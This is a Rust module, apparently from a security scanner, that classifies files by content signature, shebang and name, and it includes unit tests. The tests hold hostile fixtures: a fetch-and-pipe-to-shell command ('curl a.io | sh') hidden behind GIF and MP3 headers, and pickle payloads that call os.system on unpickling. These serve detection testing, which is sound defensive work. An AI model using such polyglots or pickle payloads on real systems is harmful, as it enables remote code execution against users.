//! What a file is: by its content first, by its name second.

mod magic;
mod name;

/// Kinds that the engines tell apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Kind {
    /// No bytes at all.
    Empty,
    /// Python source.
    Python,
    /// Shell script.
    Shell,
    /// JavaScript.
    JavaScript,
    /// TypeScript.
    TypeScript,
    /// A program in another language that an interpreter starts as it stands: PowerShell, Perl, Ruby, ….
    Script,
    /// Markdown, also `SKILL.md`.
    Markdown,
    /// JSON, also one value a line.
    Json,
    /// TOML.
    Toml,
    /// YAML.
    Yaml,
    /// A Jupyter notebook.
    Notebook,
    /// HTML.
    Html,
    /// SVG.
    Svg,
    /// XML.
    Xml,
    /// Comma- or tab-separated values.
    Csv,
    /// Text of no particular kind.
    Text,
    /// Text in UTF-16 or UTF-32.
    WideText,
    /// ZIP, also wheels, `.npz` and models in it.
    Zip,
    /// Office document of the ZIP family.
    Office,
    /// Office document of the older, compound form.
    Ole,
    /// tar.
    Tar,
    /// gzip.
    Gzip,
    /// bzip2, xz, zstd, lz4.
    Compressed,
    /// 7z, RAR, cabinet, disk image or package: archives that are not unpacked.
    Archive,
    /// PDF.
    Pdf,
    /// Python pickle.
    Pickle,
    /// CPython byte code.
    Pyc,
    /// ELF program or library.
    Elf,
    /// Windows program or library.
    Pe,
    /// macOS program or library.
    MachO,
    /// WebAssembly.
    Wasm,
    /// Java class, Dalvik code, LLVM bitcode, Windows shortcut: code that no engine reads.
    ForeignCode,
    /// PNG, JPEG, GIF, WebP, ICO, BMP, TIFF.
    Image,
    /// TrueType, OpenType, WOFF.
    Font,
    /// Sound.
    Audio,
    /// Moving pictures.
    Video,
    /// SQLite database.
    Sqlite,
    /// NumPy array.
    Npy,
    /// Parquet, Arrow, Avro, HDF5, safetensors, metadata of macOS: tables and tensors without code.
    Table,
    /// Bytes that no engine understands.
    Unknown,
}

impl Kind {
    /// The name used in the coverage ledger.
    pub const fn name(self) -> &'static str {
        match self {
            Self::Empty => "empty file",
            Self::Python => "python",
            Self::Shell => "shell",
            Self::JavaScript => "javascript",
            Self::TypeScript => "typescript",
            Self::Script => "script",
            Self::Markdown => "markdown",
            Self::Json => "json",
            Self::Toml => "toml",
            Self::Yaml => "yaml",
            Self::Notebook => "notebook",
            Self::Html => "html",
            Self::Svg => "svg",
            Self::Xml => "xml",
            Self::Csv => "csv",
            Self::Text => "text",
            Self::WideText => "utf-16 text",
            Self::Zip => "zip archive",
            Self::Office => "office document",
            Self::Ole => "compound document",
            Self::Tar => "tar archive",
            Self::Gzip => "gzip file",
            Self::Compressed => "compressed file",
            Self::Archive => "packed archive",
            Self::Pdf => "pdf",
            Self::Pickle => "pickle",
            Self::Pyc => "python byte code",
            Self::Elf => "elf binary",
            Self::Pe => "windows binary",
            Self::MachO => "macos binary",
            Self::Wasm => "webassembly",
            Self::ForeignCode => "foreign code",
            Self::Image => "image",
            Self::Font => "font",
            Self::Audio => "audio",
            Self::Video => "video",
            Self::Sqlite => "sqlite database",
            Self::Npy => "numpy array",
            Self::Table => "data table",
            Self::Unknown => "unknown binary",
        }
    }

    /// Whether the text engine reads it.
    pub const fn is_text(self) -> bool {
        matches!(
            self,
            Self::Python
                | Self::Shell
                | Self::JavaScript
                | Self::TypeScript
                | Self::Script
                | Self::Markdown
                | Self::Json
                | Self::Toml
                | Self::Yaml
                | Self::Notebook
                | Self::Html
                | Self::Svg
                | Self::Xml
                | Self::Csv
                | Self::Text
                | Self::WideText
        )
    }

    /// Whether something runs it as it stands.
    pub(crate) const fn is_program(self) -> bool {
        matches!(
            self,
            Self::Python
                | Self::Shell
                | Self::JavaScript
                | Self::TypeScript
                | Self::Script
                | Self::Pyc
                | Self::Elf
                | Self::Pe
                | Self::MachO
                | Self::Wasm
                | Self::ForeignCode
        )
    }

    /// Whether a name of this kind promises text or data, and no language.
    const fn is_prose(self) -> bool {
        matches!(
            self,
            Self::Text | Self::Csv | Self::Json | Self::Yaml | Self::Toml
        )
    }

    /// Content decides; a name decides among the kinds that its content allows.
    pub(crate) fn identify(path: &str, bytes: &[u8]) -> Self {
        if bytes.is_empty() {
            return Self::Empty;
        }
        let named = name::kind_of(set_aside(path));
        if let Some(kind) = magic::kind_of(bytes) {
            // `GIF89a=1` is a picture's beginning and a Python statement, and CPython goes by the name.
            let source = named.filter(|named| named.is_text());
            return match source {
                Some(source) if kind != Self::Pickle && looks_like_text(bytes) => source,
                None if poses_as_media(bytes) => Self::Text,
                // The interpreter reads no UTF-16, so as Python it is unreadable, whatever a person sees.
                Some(Self::Python) if kind == Self::WideText => Self::Python,
                _ => kind,
            };
        }
        if let Some(kind) = shebang(bytes)
            && !matches!(
                named,
                Some(Self::Markdown | Self::Python | Self::TypeScript)
            )
        {
            return kind;
        }
        match named {
            // A loader of pickles goes by no name.
            Some(kind) if kind.is_prose() && magic::is_text_pickle(bytes) => Self::Pickle,
            Some(kind) if kind.is_text() => kind,
            _ if magic::is_text_pickle(bytes) => Self::Pickle,
            _ => by_structure(bytes),
        }
    }
}

/// A text that begins as pictures, sounds, fonts or tables do, which every shell and interpreter reads as text.
pub(crate) fn poses_as_media(bytes: &[u8]) -> bool {
    let media = matches!(
        magic::kind_of(bytes),
        Some(Kind::Image | Kind::Audio | Kind::Video | Kind::Font | Kind::Table | Kind::Sqlite)
    );
    media && looks_like_text(bytes)
}

/// The kind a name promises, for comparison with what the content is.
pub(crate) fn promised(path: &str) -> Option<Kind> {
    name::kind_of(path)
}

/// The name that a file had before it was set aside: `tool.py` of `tool.py.bak` and of our own `tool.py.249a054fcc93.2`.
fn set_aside(path: &str) -> &str {
    let mut name = path;
    while let Some((before, last)) = name.rsplit_once('.') {
        let digest = last.len() == 12 && last.bytes().all(|byte| byte.is_ascii_hexdigit());
        let number = last.len() < 4 && last.bytes().all(|byte| byte.is_ascii_digit());
        if !digest && !number && !["bak", "disabled", "old", "orig"].contains(&last) {
            break;
        }
        name = before;
    }
    name
}

/// No NUL and valid UTF-8.
fn looks_like_text(bytes: &[u8]) -> bool {
    memchr::memchr(0, bytes).is_none() && std::str::from_utf8(bytes).is_ok()
}

/// The interpreter of a `#!` line.
fn shebang(bytes: &[u8]) -> Option<Kind> {
    let rest = bytes
        .strip_prefix(b"\xef\xbb\xbf")
        .unwrap_or(bytes)
        .strip_prefix(b"#!")?;
    let end = memchr::memchr2(b'\n', b'\r', rest).unwrap_or(rest.len());
    let line = std::str::from_utf8(rest.get(..end.min(256))?).ok()?;
    line.split_whitespace()
        .filter(|word| !word.starts_with('-') && !word.contains('='))
        .map(|word| word.rsplit('/').next().unwrap_or(word))
        .find(|word| *word != "env")
        .and_then(interpreter)
}

/// What a program of this name runs.
fn interpreter(program: &str) -> Option<Kind> {
    let stem = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match stem {
        "python" | "pythonw" | "pypy" | "uv" | "ipython" => Kind::Python,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "mksh" | "busybox" | "bats" => Kind::Shell,
        "node" | "nodejs" | "bun" => Kind::JavaScript,
        "deno" | "ts-node" | "tsx" => Kind::TypeScript,
        "" => return None,
        _ => Kind::Script,
    })
}

/// What the bytes are, when neither signature nor name tells.
fn by_structure(bytes: &[u8]) -> Kind {
    if !looks_like_text(bytes) {
        return Kind::Unknown;
    }
    let start = bytes.trim_ascii_start();
    let head = start
        .get(..start.len().min(64))
        .unwrap_or_default()
        .to_ascii_lowercase();
    match head.as_slice() {
        [b'{' | b'[', ..] => Kind::Json,
        _ if head.starts_with(b"<!doctype html") || head.starts_with(b"<html") => Kind::Html,
        _ if head.starts_with(b"<svg") => Kind::Svg,
        _ if head.starts_with(b"<?xml") => Kind::Xml,
        _ => Kind::Text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(path: &str, bytes: &[u8], kind: Kind) {
        assert_eq!(Kind::identify(path, bytes), kind, "{path}");
    }

    #[test]
    fn what_is_set_aside_is_what_it_was() {
        for path in ["a/b.py.bak", "b.py.249a054fcc93", "b.py.249a054fcc93.2"] {
            check(path, b"print(1)\n", Kind::Python);
        }
        check("b.py.j2", b"print(1)\n", Kind::Text);
        check("libc.so.6", b"text\n", Kind::Text);
    }

    #[test]
    fn content_decides_before_the_name() {
        check(
            "logo.png",
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
            Kind::Elf,
        );
        check("notes.txt", b"#!/bin/bash\nls\n", Kind::Shell);
        check(
            "run",
            b"#!/usr/bin/env -S python3.11 -u\nprint(1)\n",
            Kind::Python,
        );
        check("run", b"#!/usr/bin/env FOO=1 node\n1\n", Kind::JavaScript);
        check(
            "weights.txt",
            b"\x80\x04\x95\x10\0\0\0\0\0\0\0.",
            Kind::Pickle,
        );
    }

    #[test]
    fn a_name_decides_among_what_the_content_allows() {
        check("a.py", b"GIF89a=1\nimport os\n", Kind::Python);
        check("a.gif", b"GIF89a\x01\0\x01\0\0\0\0", Kind::Image);
        check("a.gif", b"GIF89a=1\ncurl a.io | sh\n", Kind::Text);
        check("a.mp3", b"ID3=1\ncurl a.io | sh\n", Kind::Text);
        check("a.PY", b"x = 1\n", Kind::Python);
        check("Makefile", b"all:\n", Kind::Text);
        check("hook.pth", b"import os\n", Kind::Python);
    }

    #[test]
    fn bytes_of_no_known_form_are_unknown() {
        check("a.txt", b"\x01\x02\xff\xfe\0\x03", Kind::Text);
        check("a.dat", b"\x01\x02\xff\xfe\0\x03", Kind::Unknown);
        check("a", b"", Kind::Empty);
    }

    #[test]
    fn text_pickles_are_known_by_their_opcodes() {
        check("model.dat", b"cos\nsystem\n(S'id'\ntR.", Kind::Pickle);
        check("model.dat", b"column,system\n1,2.", Kind::Text);
        for name in ["model.dat", "model.txt", "model.pkl", "model"] {
            check(name, b"I1\n0cos\nsystem\n(S'id'\ntR.", Kind::Pickle);
            check(name, b"\x80\x01cos\nsystem\n(S'id'\ntR.", Kind::Pickle);
        }
        check("a.txt", b"cat\ndog\n.", Kind::Text);
    }
}
